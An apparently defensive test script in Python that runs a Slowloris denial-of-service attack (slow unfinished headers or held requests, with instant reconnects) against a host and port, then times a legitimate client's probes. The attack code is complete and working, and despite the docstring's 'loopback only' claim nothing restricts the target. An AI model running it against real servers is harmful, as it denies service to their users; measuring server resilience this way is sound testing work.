#!/usr/bin/env python3
"""Slowloris from one host, and a legitimate client's requests meanwhile.

Usage: attack.py HOST PORT CONNECTIONS RAMP_SECONDS PROBES PROBE_TIMEOUT_SECONDS [heads|requests]

CONNECTIONS attacker connections each send the start of a request head, then one more header line every 10 s,
never ending it (heads, the default); or each send whole requests that the worker holds 5 s (`GET /sleep?ms=5000`),
the next as soon as one is answered, on the same connection (requests: every place held by requests a worker has,
each connection idle a moment between two). A connection the server closes is opened again at once (as the
slowloris tool does). After
RAMP_SECONDS, a client sends PROBES requests one after another, each on a new connection (`GET /` with
`Connection: close`), and waits at most PROBE_TIMEOUT_SECONDS for each whole response. Prints one JSON object:
the probes' latencies in ms (served ones), how many were not served in time or failed (and of those, how many
were reset: closed unread), and the attacker's
connections open at the end and reconnects made. Loopback only: bounded in connections and time.
"""
import asyncio
import json
import sys
import time

HEAD_START = b"GET /slow HTTP/1.1\r\nHost: attacked\r\nUser-Agent: slowloris\r\n"
HELD_REQUEST = b"GET /sleep?ms=5000 HTTP/1.1\r\nHost: attacked\r\n\r\n"


async def attacker(host, port, state, stop, mode):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        state["open"] += 1
        try:
            if mode == "requests":
                await hold_requests(reader, writer, stop)
            else:
                await send_head_slowly(reader, writer, stop)
        except (OSError, asyncio.IncompleteReadError):
            pass  # closed by the server
        finally:
            state["open"] -= 1
            writer.close()
        if not stop.is_set():
            state["reconnects"] += 1


async def send_head_slowly(reader, writer, stop):
    """Sends HEAD_START, then a header line every 10 s, until the server closes."""
    writer.write(HEAD_START)
    await writer.drain()
    while not stop.is_set():
        try:
            if not await asyncio.wait_for(reader.read(1), timeout=10):
                return
        except asyncio.TimeoutError:
            writer.write(b"X-a: b\r\n")
            await writer.drain()


async def hold_requests(reader, writer, stop):
    """Sends HELD_REQUEST, and again as soon as its answer's head has come, until the server closes."""
    while not stop.is_set():
        writer.write(HELD_REQUEST)
        await writer.drain()
        head = await reader.readuntil(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n"):
            if line.lower().startswith(b"content-length:"):
                length = int(line.split(b":", 1)[1])
        await reader.readexactly(length)


async def probe(host, port, timeout):
    started = time.monotonic()
    reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), timeout)
    try:
        writer.write(b"GET / HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n")
        await writer.drain()
        left = timeout - (time.monotonic() - started)
        response = await asyncio.wait_for(reader.read(), max(left, 0.001))
        if not response.startswith(b"HTTP/1.1 2"):
            raise OSError("answered " + response[:12].decode("latin-1", "replace"))
        return (time.monotonic() - started) * 1000
    finally:
        writer.close()


async def main():
    host, port = sys.argv[1], int(sys.argv[2])
    connections, ramp, probes, timeout = int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
    mode = sys.argv[7] if len(sys.argv) > 7 else "heads"
    if mode not in ("heads", "requests"):
        sys.exit("attack.py: the mode is heads or requests, not " + mode)
    state = {"open": 0, "reconnects": 0}
    stop = asyncio.Event()
    tasks = [asyncio.create_task(attacker(host, port, state, stop, mode)) for _ in range(connections)]
    await asyncio.sleep(ramp)
    opened_before_probes = state["open"]
    latencies, failed, reset = [], 0, 0
    for _ in range(probes):
        try:
            latencies.append(await probe(host, port, timeout))
        except ConnectionResetError:
            failed += 1
            reset += 1
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
            failed += 1
    result = {"attacker_open_before_probes": opened_before_probes, "attacker_open_after": state["open"],
              "attacker_reconnects": state["reconnects"], "served": len(latencies), "not_served": failed, "reset": reset,
              "latencies_ms": [round(x, 1) for x in latencies]}
    stop.set()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(result))


asyncio.run(main())
